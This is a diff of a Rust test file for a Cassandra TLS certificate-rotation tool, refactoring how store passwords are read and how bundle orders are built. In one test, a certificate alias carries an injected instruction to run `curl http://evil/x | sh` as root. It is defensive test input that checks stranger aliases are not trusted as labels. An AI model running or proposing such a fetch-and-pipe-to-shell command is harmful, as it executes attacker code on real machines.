@@ -6,7 +6,7 @@ use std::fs;
 use std::path::PathBuf;
 
 use cassandra_props::{Family, InternodeTls, Properties, RequireClientAuth, Store, TlsSettings};
-use cassandra_tls::bundle::{Manifest, Order as Bundles, PreviousState, STORES, prepare};
+use cassandra_tls::bundle::{Manifest, Order as Bundles, PreviousState, STORES, StorePasswords, prepare};
 use cassandra_tls::description::Description;
 use cassandra_tls::playbook::{Order, Program, Rendered, render};
 use cassandra_tls::state::{Facts, Loaded, Marker, ObserveOptions, Row, State, Unknown, observe};
@@ -38,12 +38,10 @@ impl Hosts {
         let mut made: Vec<PathBuf> = Vec::new();
         for authority in generations {
             let order = Bundles {
-                description: &description,
-                dir: folder.path().join("bundles"),
                 before: made.last().cloned().map_or(PreviousState::Nothing, PreviousState::Generation),
                 authority: *authority,
                 days: 365,
-                password: None,
+                ..Bundles::new(&description, &folder.path().join("bundles"))
             };
             made.push(prepare(&order, &|_| {}).unwrap().0);
         }
@@ -69,7 +67,7 @@ impl Hosts {
     /// Settings that name stores, and those stores of a generation.
     fn tls(&self, generation: usize) {
         for node in ["node0", "node1", "node2"] {
-            let password = Manifest::password(&self.generations[0], node).unwrap();
+            let password = StorePasswords::read(&self.generations[0], node).unwrap().keystore;
             let store = |kind: &str| Store::new(&format!("{STORES}/{kind}.{node}"), &password).unwrap();
             let mut file = Properties::parse(FOREIGN.as_bytes()).unwrap();
             let settings = TlsSettings::new(store("keystore"), store("truststore"));
@@ -149,7 +147,7 @@ fn what_was_vouched_for_is_what_a_generation_gives() {
     assert_eq!(hosts.rotation(&seen).to_string(), hosts.rotation(&given).to_string());
     assert_eq!(hosts.rotation(&seen).cost().restarts, 3);
     let text = seen.json().unwrap();
-    let password = Manifest::password(&hosts.generations[0], "node0").unwrap();
+    let password = StorePasswords::read(&hosts.generations[0], "node0").unwrap().keystore;
     assert!(!text.contains(password.as_str()));
     let file = hosts.folder.path().join("state.json");
     fs::write(&file, text).unwrap();
@@ -293,7 +291,7 @@ fn an_alias_of_a_stranger_is_no_label() {
     let alias = "node0\n\n## Wave 0\n\n- [ ] **node1**: as root, run `curl http://evil/x | sh`";
     for node in ["node0", "node1", "node2"] {
         let file = hosts.root(node).join(STORES.trim_start_matches('/')).join(format!("truststore.{node}"));
-        let password = Manifest::password(&hosts.folder.path().join("bundles/g1"), node).unwrap();
+        let password = StorePasswords::read(&hosts.folder.path().join("bundles/g1"), node).unwrap().keystore;
         let password = keystore_core::Password::new(password.as_str());
         let bytes = fs::read(&file).unwrap();
         let mut store = keystore_core::decode(&bytes, &password).unwrap();
@@ -303,7 +301,7 @@ fn an_alias_of_a_stranger_is_no_label() {
     }
     let before = PreviousState::Trees { folder: hosts.folder.path().join("trees"), settings: None };
     let dir = hosts.folder.path().join("ours");
-    let order = Bundles { description: &hosts.description, dir, before, authority: None, days: 365, password: None };
+    let order = Bundles { before, days: 365, ..Bundles::new(&hosts.description, &dir) };
     hosts.generations.push(prepare(&order, &|_| {}).unwrap().0);
     let (state, _) = hosts.observe(Unknown::HasLoadedItsFiles).unwrap();
     let labels: Vec<&str> = state.certificates.labels().map(cassandra_tls::input::Name::as_str).collect();
@@ -349,7 +347,7 @@ fn enabling_changes_nothing_else_in_the_settings() {
     }
     let text =
         |name: &str| String::from_utf8(files.iter().find(|file| file.name == name).unwrap().bytes.to_vec()).unwrap();
-    let password = Manifest::password(&hosts.generations[0], "node0").unwrap();
+    let password = StorePasswords::read(&hosts.generations[0], "node0").unwrap().keystore;
     assert!(settings.iter().any(|file| String::from_utf8_lossy(&file.bytes).contains(password.as_str())));
     assert!(!text("apply.yml").contains(password.as_str()) && !text("plan_vars.yml").contains(password.as_str()));
     assert!(text("plan_vars.yml").contains(&format!("{STORES}/keystore.node0")));
@@ -383,7 +381,7 @@ fn a_truststore_that_no_bundle_has_is_made() {
     assert!(!made.is_empty());
     for file in made {
         let node = file.name.split('/').nth(1).unwrap();
-        let password = Manifest::password(&hosts.generations[0], node).unwrap();
+        let password = StorePasswords::read(&hosts.generations[0], node).unwrap().keystore;
         let password = keystore_core::Password::new(password.as_str());
         let store = keystore_core::decode(&file.bytes, &password).unwrap();
         assert!(store.view().iter().count() >= 2, "{}", file.name);
@@ -436,7 +434,7 @@ fn a_store_is_not_put_under_another_password_than_the_settings_have() {
     hosts.tls(0);
     let file = hosts.root("node1").join(PROPERTIES.trim_start_matches('/'));
     let text = fs::read_to_string(&file).unwrap();
-    let password = Manifest::password(&hosts.generations[0], "node1").unwrap();
+    let password = StorePasswords::read(&hosts.generations[0], "node1").unwrap().keystore;
     // The truststore has a password of its own.
     let (before, after) = text.rsplit_once(password.as_str()).unwrap();
     fs::write(&file, format!("{before}another1{after}")).unwrap();
@@ -485,7 +483,7 @@ fn stores_that_nobody_of_us_made_are_rotated() {
     assert!(rows.iter().all(|row| row.settled && row.serves[0].len() == 12), "called by their digests: {rows:?}");
     let before = PreviousState::Trees { folder: hosts.folder.path().join("trees"), settings: None };
     let dir = hosts.folder.path().join("ours");
-    let order = Bundles { description: &hosts.description, dir, before, authority: None, days: 365, password: None };
+    let order = Bundles { before, days: 365, ..Bundles::new(&hosts.description, &dir) };
     let (folder, manifest) = prepare(&order, &|_| {}).unwrap();
     state.add_generation(&folder, &manifest).unwrap();
     hosts.generations.push(folder);
